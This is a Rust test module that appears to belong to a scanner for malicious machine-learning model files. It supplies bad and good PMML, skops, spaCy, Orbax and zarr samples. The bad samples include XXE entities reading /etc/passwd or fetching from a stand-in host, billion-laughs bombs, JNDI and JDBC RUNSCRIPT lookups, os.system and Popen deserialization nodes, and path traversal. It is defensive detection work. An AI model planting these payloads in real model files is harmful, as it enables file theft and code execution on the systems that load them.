//! PMML, skops, spaCy, Orbax and zarr.

use super::{Case, bad, good};
use crate::classical::text::{
    json_node, list_node, node, orbax, orbax_tree, pmml, pmml_apply, skops, spacy, zarr,
};

pub(super) fn cases() -> Vec<Case> {
    [
        pmml_xml(),
        pmml_code(),
        skops_names(),
        skops_tricks(),
        spacy_cases(),
        orbax_cases(),
    ]
    .concat()
}

fn pmml_xml() -> Vec<Case> {
    const CLASS: &str = "pmml-xml";
    let document =
        |name: &str, prologue: &str| bad(CLASS, name, "model.pmml", pmml(prologue, "", ""));
    let inside = |name: &str, content: &str| bad(CLASS, name, "model.pmml", pmml("", "", content));
    let laughs = "<!DOCTYPE PMML [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>\n";
    let wide: Vec<u8> = pmml(
        "<!DOCTYPE PMML [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n",
        "",
        "",
    )
    .encode_utf16()
    .flat_map(u16::to_le_bytes)
    .collect();
    let wide = [vec![0xff, 0xfe], wide].concat();
    let nested = format!("{}{}", "<Node>".repeat(50_000), "</Node>".repeat(50_000));
    vec![
        document("external-entity-file", "<!DOCTYPE PMML [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n"),
        document("external-entity-address", "<!DOCTYPE PMML [<!ENTITY x SYSTEM \"http://203.0.113.9/x\">]>\n"),
        document("external-entity-public", "<!DOCTYPE PMML [<!ENTITY x PUBLIC \"a\" \"http://203.0.113.9/x\">]>\n"),
        document("parameter-entity", "<!DOCTYPE PMML [<!ENTITY % x SYSTEM \"http://203.0.113.9/x.dtd\"> %x;]>\n"),
        document("external-document-type", "<!DOCTYPE PMML SYSTEM \"http://203.0.113.9/x.dtd\">\n"),
        document("external-document-type-lower-case", "<!DOCTYPE pmml public \"-//x\" \"http://203.0.113.9/x.dtd\">\n"),
        document("internal-entity", "<!DOCTYPE PMML [<!ENTITY x \"text\">]>\n"),
        document("billion-laughs", laughs),
        document("style-sheet", "<?xml-stylesheet type=\"text/xsl\" href=\"http://203.0.113.9/x.xsl\"?>\n"),
        bad(CLASS, "external-entity-in-wide-characters", "model.pmml", wide),
        inside("include", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>"),
        inside("table-at-an-address", "<TaxonomyX><TableLocator url=\"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://203.0.113.9/x'\"/></TaxonomyX>"),
        inside("table-in-a-file", "<MapValues><TableLocator file=\"../../secret.csv\"/></MapValues>"),
        inside("deep", &nested),
        good(CLASS, "honest", "model.pmml", pmml("", "", "")),
        good(CLASS, "honest-comment", "model.pmml", pmml("<!-- written by <!ENTITY> haters -->\n", "", "")),
        good(CLASS, "honest-schema-location", "model.pmml", pmml("", "", "").replace("version=\"4.4\"", "version=\"4.4\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://www.dmg.org/PMML-4_4 http://www.dmg.org/v4-4/pmml-4-4.xsd\"")),
        good(CLASS, "honest-inline-table", "model.pmml", pmml("", "", "<MapValues><InlineTable><row><x>1</x></row></InlineTable></MapValues>")),
    ]
}

fn pmml_code() -> Vec<Case> {
    const CLASS: &str = "pmml-code";
    let inside = |name: &str, content: &str| bad(CLASS, name, "model.pmml", pmml("", "", content));
    let index = |pattern: &str| {
        format!("<TextIndex textField=\"x\" wordSeparatorCharacterRE=\"{pattern}\"/>")
    };
    let extension = "<Extension name=\"script\" extender=\"x\">java.lang.Runtime.getRuntime().exec(inert)</Extension>";
    vec![
        inside("java-runtime", &pmml_apply("java.lang.Runtime.exec")),
        inside("java-class", &pmml_apply("com.example.Payload")),
        inside(
            "script-engine",
            &pmml_apply("javax.script.ScriptEngineManager"),
        ),
        inside("unknown-function", &pmml_apply("x-shell")),
        inside("script-element", "<script>inert()</script>"),
        inside("exploding-separator", &index("(\\s+)+")),
        inside(
            "lookup-address",
            "<Extension name=\"a\" value=\"${jndi:ldap://203.0.113.9/x}\"/>",
        ),
        bad(
            CLASS,
            "extension-script",
            "model.pmml",
            pmml("", extension, ""),
        ),
        bad(
            CLASS,
            "extension-python",
            "model.pmml",
            pmml(
                "",
                "<Extension name=\"note\" value=\"__import__('os').system('echo inert')\"/>",
                "",
            ),
        ),
        good(
            CLASS,
            "honest-functions",
            "model.pmml",
            pmml("", "", &pmml_apply("log10")),
        ),
        good(
            CLASS,
            "honest-converter-function",
            "model.pmml",
            pmml("", "", &pmml_apply("x-log2")),
        ),
        good(
            CLASS,
            "honest-own-function",
            "model.pmml",
            pmml(
                "",
                "",
                &format!(
                    "<TransformationDictionary><DefineFunction name=\"half\" optype=\"continuous\"><ParameterField name=\"v\"/><FieldRef field=\"v\"/></DefineFunction></TransformationDictionary>{}",
                    pmml_apply("half")
                ),
            ),
        ),
        good(
            CLASS,
            "honest-extension",
            "model.pmml",
            pmml(
                "",
                "<Extension name=\"x-sklearn2pmml\" value=\"0.100.0\"/>",
                "",
            ),
        ),
        good(
            CLASS,
            "honest-separator",
            "model.pmml",
            pmml("", "", &index("\\s+")),
        ),
    ]
}

fn skops_names() -> Vec<Case> {
    const CLASS: &str = "skops-callable";
    let named = |name: &str, module: &str, class: &str, loader: &str, more: &str| {
        bad(
            CLASS,
            name,
            "schema.json",
            skops("x", &node(module, class, loader, more)),
        )
    };
    let dict = node(
        "builtins",
        "dict",
        "DictNode",
        &format!(r#","content":{{}},"key_types":{}"#, list_node(&[])),
    );
    let arguments = format!(
        r#","content":{}"#,
        node(
            "builtins",
            "tuple",
            "TupleNode",
            &format!(r#","content":[{}]"#, json_node("\"echo inert\""))
        )
    );
    let partial = format!(
        r#","content":{{"func":{},"args":{},"kwds":{dict},"namespace":{dict}}}"#,
        node("os", "system", "FunctionNode", ""),
        list_node(&[json_node("\"echo inert\"")]),
    );
    vec![
        named("function", "os", "system", "FunctionNode", ""),
        named("function-posix", "posix", "system", "FunctionNode", ""),
        named("function-builtin", "builtins", "eval", "FunctionNode", ""),
        named("type", "subprocess", "Popen", "TypeNode", ""),
        named(
            "constructor",
            "subprocess",
            "Popen",
            "ConstructorFromReduceNode",
            &arguments,
        ),
        named(
            "object",
            "evil.payload",
            "Thing",
            "ObjectNode",
            &format!(r#","content":{dict}"#),
        ),
        named("partial", "functools", "partial", "PartialNode", &partial),
        named(
            "through-a-module",
            "sklearn.utils._os",
            "system",
            "FunctionNode",
            "",
        ),
        named("numpy-loader", "numpy", "load", "FunctionNode", ""),
        named("joblib", "joblib.numpy_pickle", "load", "FunctionNode", ""),
        named(
            "unknown-of-a-known-library",
            "sklearn.utils._weird",
            "run_anything",
            "FunctionNode",
            "",
        ),
        named("unknown-kind-of-node", "builtins", "dict", "ExecNode", ""),
        good(
            CLASS,
            "honest",
            "schema.json",
            skops("C", &json_node("1.0")),
        ),
        good(
            CLASS,
            "honest-function",
            "schema.json",
            skops("f", &node("numpy", "log1p", "FunctionNode", "")),
        ),
        good(
            CLASS,
            "honest-score-function",
            "schema.json",
            skops(
                "f",
                &node(
                    "sklearn.feature_selection._univariate_selection",
                    "chi2",
                    "FunctionNode",
                    "",
                ),
            ),
        ),
        good(
            CLASS,
            "honest-array",
            "schema.json",
            skops(
                "coef_",
                &node(
                    "numpy",
                    "ndarray",
                    "NdArrayNode",
                    r#","type":"numpy","file":"140.npy""#,
                ),
            ),
        ),
        good(
            CLASS,
            "honest-booster",
            "schema.json",
            skops(
                "m",
                &node(
                    "lightgbm.sklearn",
                    "LGBMClassifier",
                    "ObjectNode",
                    &format!(r#","content":{dict}"#),
                ),
            ),
        ),
        good(
            CLASS,
            "honest-version-attribute",
            "schema.json",
            skops("_sklearn_version", &json_node("\"1.9.1\"")),
        ),
    ]
}

fn skops_tricks() -> Vec<Case> {
    const CLASS: &str = "skops-node";
    let case = |name: &str, attribute: &str, value: &str| {
        bad(CLASS, name, "schema.json", skops(attribute, value))
    };
    let attributes = |items: &[String]| {
        format!(
            r#","attrs":{}"#,
            node(
                "builtins",
                "tuple",
                "TupleNode",
                &format!(r#","content":[{}]"#, items.join(","))
            )
        )
    };
    let owner = node(
        "sklearn.svm._classes",
        "SVC",
        "ObjectNode",
        r#","content":null"#,
    );
    let method = |class: &str, function: &str| {
        node(
            "sklearn.svm._classes",
            class,
            "MethodNode",
            &format!(r#","content":{{"func":"{function}","obj":{owner}}}"#),
        )
    };
    let plain = json_node("1");
    vec![
        case(
            "operator-call",
            "x",
            &node(
                "operator",
                "call",
                "OperatorFuncNode",
                &attributes(std::slice::from_ref(&plain)),
            ),
        ),
        case(
            "operator-of-another-module",
            "x",
            &node(
                "builtins",
                "int",
                "OperatorFuncNode",
                &attributes(std::slice::from_ref(&plain)),
            ),
        ),
        case(
            "getter-of-internals",
            "x",
            &node(
                "operator",
                "attrgetter",
                "OperatorFuncNode",
                &attributes(&[json_node("\"__globals__\"")]),
            ),
        ),
        case("method-of-another-object", "x", &method("LinearSVC", "fit")),
        case("method-internal", "x", &method("SVC", "__reduce__")),
        case("method-dotted", "x", &method("SVC", "fit.__globals__")),
        case(
            "file-outside",
            "x",
            &node(
                "numpy",
                "ndarray",
                "NdArrayNode",
                r#","type":"numpy","file":"../../../etc/passwd""#,
            ),
        ),
        case(
            "file-absolute",
            "x",
            &node("builtins", "bytes", "BytesNode", r#","file":"/etc/passwd""#),
        ),
        case(
            "array-as-pickle",
            "x",
            &node(
                "numpy",
                "ndarray",
                "NdArrayNode",
                r#","type":"pickle","file":"1.pkl""#,
            ),
        ),
        case(
            "kind-and-type-disagree",
            "x",
            &node("evil.module", "Evil", "ListNode", r#","content":[]"#),
        ),
        case(
            "tree-of-another-type",
            "x",
            &node("ctypes", "CDLL", "TreeNode", r#","content":null"#),
        ),
        case("internal-attribute", "__class__", &plain),
        case(
            "internal-method",
            "__del__",
            &node(
                "sklearn.metrics._classification",
                "f1_score",
                "FunctionNode",
                "",
            ),
        ),
        bad(
            CLASS,
            "duplicate-key",
            "schema.json",
            skops("x", &plain).replace(r#""protocol":2"#, r#""__module__":"os","protocol":2"#),
        ),
        bad(
            CLASS,
            "deep",
            "schema.json",
            format!(
                "{}{}",
                r#"{"__class__":"list","__module__":"builtins","__loader__":"ListNode","content":["#,
                "[".repeat(20_000)
            ),
        ),
        good(
            CLASS,
            "honest-getter",
            "schema.json",
            skops(
                "x",
                &node(
                    "operator",
                    "itemgetter",
                    "OperatorFuncNode",
                    &attributes(&[plain]),
                ),
            ),
        ),
        good(
            CLASS,
            "honest-method",
            "schema.json",
            skops("x", &method("SVC", "predict")),
        ),
    ]
}

fn spacy_cases() -> Vec<Case> {
    const CLASS: &str = "spacy-config";
    let case = |name: &str, more: &str| bad(CLASS, name, "config.cfg", spacy(more));
    let meta = |more: &str| {
        format!(
            r#"{{"lang":"en","name":"pipeline","version":"1.0.0","spacy_version":">=3.8.0,<3.9.0","requirements":[{more}]}}"#
        )
    };
    vec![
        case(
            "callback-of-others",
            "[initialize.before_init]\n@callbacks = \"evil.run.v1\"\n",
        ),
        case(
            "architecture-of-others",
            "[components.x.model]\n@architectures = \"payload.v1\"\n",
        ),
        case(
            "callback-before-creation",
            "[nlp.before_creation]\n@callbacks = \"setup_hook\"\n",
        ),
        case(
            "dangerous-name",
            "[nlp.after_creation]\n@callbacks = \"os.system\"\n",
        ),
        case(
            "reader-of-others",
            "[corpora.train]\n@readers = \"subprocess.Popen\"\n",
        ),
        case(
            "tokenizer-of-others",
            "[nlp.x]\n@tokenizers = \"evil_tokenizer\"\n",
        ),
        case("code-path", "[x]\ncode = \"functions.py\"\n"),
        case(
            "component-source-outside",
            "[components.ner]\nsource = \"../../other/model\"\n",
        ),
        case(
            "component-source-address",
            "[components.ner]\nsource = \"https://203.0.113.9/model\"\n",
        ),
        case(
            "vectors-address",
            "[initialize]\nvectors = \"https://203.0.113.9/vectors\"\n",
        ),
        bad(
            CLASS,
            "meta-requirement-address",
            "meta.json",
            meta(r#""payload @ https://203.0.113.9/p.whl""#),
        ),
        bad(
            CLASS,
            "meta-name-outside",
            "meta.json",
            meta("").replace("\"pipeline\"", "\"../../x\""),
        ),
        good(CLASS, "honest", "config.cfg", spacy("")),
        good(
            CLASS,
            "honest-training-paths",
            "config.cfg",
            spacy(
                "[corpora.train]\n@readers = \"spacy.Corpus.v1\"\npath = \"/home/me/corpus/train.spacy\"\n",
            ),
        ),
        good(
            CLASS,
            "honest-transformer",
            "config.cfg",
            spacy(
                "[components.transformer.model]\n@architectures = \"spacy-transformers.TransformerModel.v3\"\nname = \"roberta-base\"\n",
            ),
        ),
        good(
            CLASS,
            "honest-optimizer",
            "config.cfg",
            spacy(
                "[training.optimizer]\n@optimizers = \"Adam.v1\"\n\n[training.optimizer.learn_rate]\n@schedules = \"warmup_linear.v1\"\n",
            ),
        ),
        good(
            CLASS,
            "honest-source",
            "config.cfg",
            spacy("[components.ner]\nsource = \"en_core_web_sm\"\n"),
        ),
        good(
            CLASS,
            "honest-reference",
            "config.cfg",
            spacy("[training]\nseed = ${system.seed}\n"),
        ),
        good(
            CLASS,
            "honest-meta",
            "meta.json",
            meta(r#""spacy-transformers>=1.2.0""#),
        ),
    ]
}

fn orbax_cases() -> Vec<Case> {
    const CLASS: &str = "orbax-metadata";
    let case = |name: &str, file: &str, text: String| bad(CLASS, name, file, text);
    let own =
        "orbax.checkpoint._src.handlers.standard_checkpoint_handler.StandardCheckpointHandler";
    let manifest = |length: u64| {
        [
            b"\x0c\xdb\x3a\x2a".to_vec(),
            length.to_le_bytes().to_vec(),
            vec![0; 20],
        ]
        .concat()
    };
    vec![
        case("handler-of-others", "_CHECKPOINT_METADATA", orbax("evil.handlers.Handler")),
        case("handler-dangerous", "_CHECKPOINT_METADATA", orbax("os.system")),
        case("parameter-outside", "_METADATA", orbax_tree("../../../etc/cron.d/x")),
        case("pickled-elements", ".zarray", zarr("[4,4]", "[4,4]", r#"[{"id":"pickle","protocol":5}]"#)),
        case("shape-negative", ".zarray", zarr("[-4,4]", "[4,4]", "null")),
        case("chunks-zero", ".zarray", zarr("[4,4]", "[0,4]", "null")),
        case("store-address", "zarr.json", r#"{"zarr_format":3,"node_type":"array","shape":[1],"codecs":[],"kvstore":{"driver":"http","path":"http://203.0.113.9/x"}}"#.to_owned()),
        bad(CLASS, "manifest-length-lie", "manifest.ocdbt", manifest(1 << 50)),
        good(CLASS, "honest-handler", "_CHECKPOINT_METADATA", orbax(own)),
        good(CLASS, "honest-tree", "_METADATA", orbax_tree("params")),
        good(CLASS, "honest-zarr", ".zarray", zarr("[4,4]", "[4,4]", "null")),
        good(CLASS, "honest-zarr-codec", ".zarray", zarr("[4,4]", "[4,4]", r#"[{"id":"delta","dtype":"<i8"}]"#)),
        good(CLASS, "honest-manifest", "manifest.ocdbt", manifest(32)),
    ]
}
